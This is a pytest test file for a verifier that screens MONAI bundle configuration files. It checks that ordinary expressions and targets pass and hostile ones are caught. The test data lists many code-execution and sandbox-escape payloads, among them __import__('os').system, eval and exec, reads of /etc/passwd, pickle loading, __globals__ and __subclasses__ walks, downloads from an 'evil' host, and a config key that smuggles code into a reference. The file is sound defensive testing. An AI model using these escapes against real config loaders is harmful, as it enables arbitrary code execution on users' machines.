"""What expressions, targets and arguments may be; each refused one is a way to run code."""

from __future__ import annotations

import pydoc
from pathlib import Path
from typing import Any

import pytest
from monai.bundle import ConfigParser, ReferenceResolver

from perforated_monai.bundle.verify.allowed import NAMES, judge_target
from perforated_monai.bundle.verify.configs import (
    arguments,
    expressions,
    macros,
    module_references,
    targets,
)
from perforated_monai.bundle.verify.expressions import REFERENCES
from perforated_monai.bundle.verify.walk import Unpacked

IMPORTS = ["$import glob", "$import os", "$import math", "$import logging", "$import ignite"]
IMPORTS += ["$import perforated_monai", "$import torch.distributed as dist"]

# As the zoo's bundles and ours write them.
PLAIN = [
    "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')",
    "$@bundle_root + '/models/model.pt'",
    "$list(sorted(glob.glob(@dataset_dir + '/imagesTs/*.nii.gz')))",
    "$[{'image': i, 'label': l} for i, l in zip(@images[:-9], @labels[-9:])]",
    "$@train#deterministic_transforms + @train#random_transforms",
    "$@train::handlers[: -2 if dist.get_rank() > 0 else None]",
    "$monai.handlers.from_engine(['pred', 'label'])",
    "$monai.data.load_decathlon_datalist(@file, data_list_key='training', base_dir=@dir)",
    "$monai.utils.set_determinism(seed=123)",
    "$setattr(torch.backends.cudnn, 'benchmark', True)",
    "$@checkpointloader(@evaluator)",
    "$@network_def.to(@device)",
    "$@network.parameters()",
    "$@validate#evaluator.run()",
    "$dist.is_initialized() or dist.init_process_group(backend='nccl')",
    "$dist.is_initialized() and dist.destroy_process_group()",
    "$torch.cuda.set_device(@device)",
    "$@train#trainer.logger.setLevel(logging.WARNING if dist.get_rank() > 0 else logging.INFO)",
    '$torch.device(f"cuda:{@local_rank}")',
    "$os.environ['LOCAL_RANK']",
    "$numpy.float32",
    "$np.inf",
    "$[1.5, 1.5, 1.5] if @displayable_configs#highres else [3.0, 3.0, 3.0]",
    "$'model.pt' if @displayable_configs::highres else 'model_lowres.pt'",
    "$os.path.join(@output_dir, os.path.basename(@file))",
    "$lambda x: torch.sigmoid(x[0]).to('cpu')",
    "$(@seeded, @base_network_def.to(@device))[1]",
    "$@device.type == 'cuda'",
    "$perforated_monai.load_weights(@network_def, @checkpoint).to(@device)",
    "$[round(x, 2) for x in @values if x > math.pi]",
    "$@labels.get('1', 'none').split('/')[-1].lower()",
    "$-@a ** 2 // 3 % 2 + abs(@b)",
    "$ 1 + 1",
]
# Each runs code, opens files, or reaches for what can.
HOSTILE = [
    "$__import__('os').system('true')",
    "$eval('1')",
    "$exec('1')",
    "$open('/etc/passwd').read()",
    "$compile('1', '', 'eval')",
    "$globals()",
    "$vars(torch)",
    "$getattr(torch, 'load')('x')",
    "$setattr(torch, 'load', print)",
    "$setattr(torch.backends.cudnn, 'benchmark', @x)",
    "$setattr(torch.backends.cudnn, @key, True)",
    "$breakpoint()",
    "$input()",
    "$type('X', (), {})",
    "$torch.load('x')",
    "$torch.save(@x, '/tmp/x')",
    "$torch.hub.load('a', 'b')",
    "$torch.jit.load('x.ts')",
    "$torch.from_file('x')",
    "$torch.serialization.os.system('true')",
    "$torch.utils.cpp_extension.load(name='x', sources=[])",
    "$monai.utils.run_cmd(['true'])",
    "$monai.utils.module.locate('os.system')('true')",
    "$monai.bundle.run(config_file='x')",
    "$monai.bundle.download('x')",
    "$monai.apps.download_url('http://evil', 'x')",
    "$monai.transforms.LoadImage('os.system')",
    "$monai.data.utils.pickle.loads(b'')",
    "$np.load('x', allow_pickle=True)",
    "$np.fromfile('x')",
    "$numpy.memmap('x')",
    "$np.array([1]).tofile('x')",
    "$np.array([1]).dump('x')",
    "$torch.zeros(1).numpy().tofile('x')",
    "$os.system('true')",
    "$os.remove('x')",
    "$os.environ",
    "$os.environ['HOME']",
    "$os.environ.get('LOCAL_RANK')",
    "$dict(os.environ)",
    "$os.path.os.system('true')",
    "$glob.os.system('true')",
    "$logging.FileHandler('x')",
    "$logging.os.system('true')",
    "$(1).__class__.__mro__[-1].__subclasses__()",
    "$''.__class__",
    "$(lambda: 0).__globals__",
    "$(lambda: 0).__code__",
    "$[x for x in (1).__class__.__bases__]",
    "$@network.__init__.__globals__['sys']",
    "$@network.forward",
    "$@dataset.cache_dir.replace('a')",
    "$'{0.__class__}'.format(@x)",
    "$f'{@x.__class__}'",
    "$f'{__import__(\"os\")}'",
    "$[torch.load(p) for p in ['x']]",
    "$list(map(torch.load, ['x']))",
    "$sorted(['x'], key=torch.load)",
    "$(lambda f: f('x'))(torch.load)",
    "$(lambda t: t.load('x'))(torch)",
    "$[t.load('x') for t in [torch]]",
    "$[0 for os.path.join in [print]]",
    "$[0 for @x['a'] in [1]]",
    "$(lambda torch: torch)(1)",
    "$[monai for monai in [1]]",
    "$(x := torch)",
    "$[y := 1]",
    "$(yield)",
    "$await @x",
    "$[i async for i in @x]",
    "$__local_refs['x'].run",
    "$__local_refs",
    "$__builtins__['eval']('1')",
    "$torch",
    "$monai.data",
    "$dist.init_process_group(init_method='tcp://evil:1')",
    "$dist.init_process_group('nccl', 'tcp://evil:1')",
    "$dist.init_process_group(**@x)",
    "$1; import os",
    "$import os; os.system('true')",
    "$import os, subprocess",
    "$import subprocess",
    "$import pickle",
    "$import scripts.evil",
    "$import sys",
    "$from os import system",
    "$from torch import load",
    "$from monai.utils.misc import subprocess",
    "$from torch.serialization import os",
    "$from monai.bundle import run",
    "$from . import evil",
    "$import math as len",
    "$from builtins import eval as f",
    "$print('@x')",  # MONAI's replacement breaks the quotes
    "$(",
    "$" + "(" * 300 + ")" * 300,
    "$" + "-" * 3000 + "1",
]


def judged(config: dict[str, Any], rule: Any) -> list[str]:
    found = Unpacked(Path("bundle"), configs={"configs/x.json": config})
    return [broken.value for broken in rule(found)]


@pytest.mark.parametrize("text", PLAIN)
def test_what_bundles_write_is_allowed(text):
    assert judged({"imports": IMPORTS, "x": text}, expressions) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_what_runs_code_is_shown(text):
    (value,) = judged({"imports": IMPORTS, "x": text}, expressions)
    assert value.endswith(" at x")


def test_an_allowed_alias_may_not_hide_another_module():
    config = {"imports": ["$import subprocess as glob"], "x": "$glob.glob('*')"}
    shown = judged(config, expressions)
    assert any("subprocess" in value for value in shown) and len(shown) == 2
    config = {"imports": ["$import os as torch"], "x": "$torch.device('cpu')"}
    assert len(judged(config, expressions)) == 1


REACHES = [
    "$@imports::0.replace('a', 'b')",
    "$@imports[0].replace('a', 'b')",
    "$[m.replace('a', 'b') for m in @imports]",
    "$@#imports",
    "$@##imports::0.run()",
    "$@.run()",
    "@imports::0",
    "@imports#7",
    "@imports",
    "%imports::0",
    "%imports",
    "$@more::inner::0.run()",
    "@more",
    "$@more",
    "$@other.run()",
]


@pytest.mark.parametrize("text", REACHES)
def test_a_module_is_not_reached_by_reference(text):
    config = {
        "imports": ["$import os"],
        "more": {"inner": ["$import torch.distributed.run as r"], "plain": 3},
        "other": "$import monai.bundle as b",
    }
    assert judged(config | {"x": text}, module_references)
    if "@#" not in text:  # which means another place there
        assert judged(config | {"y": {"z": [text]}}, module_references)


def test_what_stands_beside_an_import_may_be_referred_to():
    config = {"imports": ["$import os"], "more": {"a": 3}, "b": "$import glob", "bc": 3}
    config |= {"x": "$@more::a + @bc", "y": "@more", "z": "%more::a"}
    assert judged(config, module_references) == []


def test_a_key_cannot_smuggle_code_into_a_relative_reference():
    key = "a+__import__('os').system('true')+b"
    text = ConfigParser.resolve_relative_ids(f"{key}::deep::inner", "$@##c")
    assert "__import__" in text  # what MONAI would evaluate
    assert len(judged({key: {"deep": {"inner": "$@##c"}}}, expressions)) == 1
    moved = {key: {"deep": "%plain"}, "plain": {"inner": "$@##c"}}
    assert len(judged(moved, expressions)) == 1
    assert judged({"a": {"b": {"inner": "$@##c + @#d"}, "c": 1}}, expressions) == []


def test_names_of_the_allow_list_exist():
    values = {"os.sep", "math.pi", "math.inf", "numpy.pi", "numpy.inf", "numpy.nan", "torch.inf"}
    missing = [n for n in NAMES if pydoc.locate(n) is None and n not in values]
    assert missing == []


ALLOWED_TARGETS = [
    *("UNet", "LoadImaged", "SlidingWindowInferer", "DiceCELoss", "DataLoader", "MeanDice"),
    *("SupervisedTrainer", "CheckpointLoader", "TensorBoardStatsHandler", "DistributedSampler"),
    *("monai.transforms.Compose", "monai.networks.nets.SegResNet", "monai.optimizers.Novograd"),
    *("torch.optim.AdamW", "torch.optim.lr_scheduler.CosineAnnealingLR", "torch.nn.MSELoss"),
    *("torch.nn.parallel.DistributedDataParallel", "torch.utils.data.RandomSampler"),
    *("ignite.metrics.Accuracy", "ignite.handlers.ProgressBar"),
    *("perforated_monai.build_network", "perforated_monai.CaseDataset"),
]
REFUSED_TARGETS = [
    *("os.system", "subprocess.Popen", "builtins.exec", "eval", "exec", "open", "print"),
    *("__import__", "run_cmd", "instantiate", "optional_import", "ConfigParser", "download_url"),
    *("monai.utils.run_cmd", "monai.utils.misc.subprocess.run", "monai.bundle.run"),
    *("monai.utils.module.instantiate", "monai.transforms.io.array.locate", "monai.apps.datasets"),
    *("monai.transforms.utils.np.load", "monai.data.torch.load", "monai.data.utils.pickle.loads"),
    *("MLFlowHandler", "PerceptualLoss", "TorchVision", "monai.losses.PerceptualLoss"),
    *("torch.load", "torch.save", "torch.jit.load", "torch.hub.load", "torch.nn.modules.module.os"),
    *("torch.optim.optimizer.torch.load", "torch.utils.data.os", "torch.nn.functional.relu"),
    *("ignite.handlers.WandBLogger", "ignite.metrics.FID", "ignite.engine.os.system"),
    *("perforated_monai.files.write_bytes", "perforated_monai.training.run_handler.RunHandler"),
    *("scripts.Net", "antigravity.fly", "nothing.There", "NoSuchComponent", "", "a b", "UNet;x"),
    *("UNet\n", "monai..UNet", ".UNet", "monai.networks.nets.UNet.__init__", "$x", "@x", "%x"),
]


@pytest.mark.parametrize("target", ALLOWED_TARGETS)
def test_targets_of_bundles_are_allowed(target):
    assert judge_target(target) == ""


@pytest.mark.parametrize("target", REFUSED_TARGETS)
def test_targets_outside_are_refused(target):
    assert judge_target(target)
    assert judged({"x": {"_target_": target}}, targets)
    assert judged({"a#b::_target_": target}, targets)
    assert judged({"+a": {"b": [{"_target_": target}]}}, targets)


@pytest.mark.parametrize("target", [None, 3, ["os.system"], {"a": "os.system"}])
def test_targets_that_are_no_text_are_refused(target):
    assert judged({"x": {"_target_": target}}, targets)


COMPONENTS = [
    {"_target_": "LoadImaged", "reader": "os.system"},
    {"_target_": "LoadImaged", "reader": "exec"},
    {"_target_": "LoadImaged", "reader": ["NibabelReader", "os.system"]},
    {"_target_": "LoadImaged", "reader": "@x"},
    {"_target_": "SaveImaged", "writer": "$'os.' + 'system'"},
    {"_target_": "PatchInferer", "merger_cls": "os.system"},
    {"_target_": "PersistentDataset", "weights_only": False},
    {"_target_": "NumpyReader", "allow_pickle": True},
    {"_target_": "UNet", "_debug_": True},
    {"_target_": "ResNet", "pretrained": True},
    {"_target_": "ResNet", "more": {"pretrained": "models/x.pt"}},
    {"_target_": "HoverNet", "pretrained_url": "http://evil"},
]


@pytest.mark.parametrize("component", COMPONENTS, ids=str)
def test_arguments_that_find_code_or_weights_are_shown(component):
    assert judged({"x": component}, arguments)
    key, value = list(component.items())[-1]
    if not isinstance(value, dict):
        assert judged({f"train#x::{key}": value}, arguments)


def test_plain_arguments_are_allowed():
    config = {
        "x": {"_target_": "LoadImaged", "reader": "NibabelReader"},
        "y": {"_target_": "LoadImaged", "reader": ["itkreader", None]},
        "z": {"_target_": "SaveImaged", "writer": "NibabelWriter"},
        "n": {"_target_": "ResNet", "pretrained": False},
        "source_url": "https://example.org",
    }
    assert judged(config, arguments) == []


@pytest.mark.parametrize("mode", ["debug", "callable", "@x", 3])
def test_a_class_is_handed_over_only_where_that_is_harmless(mode):
    assert judged({"x": {"_target_": "LoadImage", "_mode_": mode}}, targets)
    harmless = {"x": {"_target_": "Flip", "_mode_": mode}}
    assert bool(judged(harmless, targets)) == (mode != "callable")


@pytest.mark.parametrize("target", ["EfficientNetBN", "MILModel", "monai.networks.nets.MILModel"])
def test_what_fetches_weights_by_default_must_be_told_not_to(target):
    assert judged({"x": {"_target_": target}}, targets)
    assert judged({"x": {"_target_": target, "pretrained": False}}, targets) == []


@pytest.mark.parametrize(
    "text", ["%/etc/x.json", "%../x.yaml::a", "%configs/more.json#a", "%x.JSON::b", "%a/b"]
)
def test_macros_of_files_are_shown(text):
    assert judged({"x": [text]}, macros)


def test_macros_of_the_same_config_are_allowed():
    config = {"x": "%train#postprocessing", "y": "100 %", "z": "%train::handlers::0"}
    assert judged(config, macros) == []


def test_monai_writes_references_as_they_are_read_here() -> None:
    """Pins ``__local_refs``, a name that is MONAI's own."""
    assert ReferenceResolver.update_refs_pattern("$@a::0 + 1", {"a::0": 3}) == (
        f"${REFERENCES}['a::0'] + 1"
    )
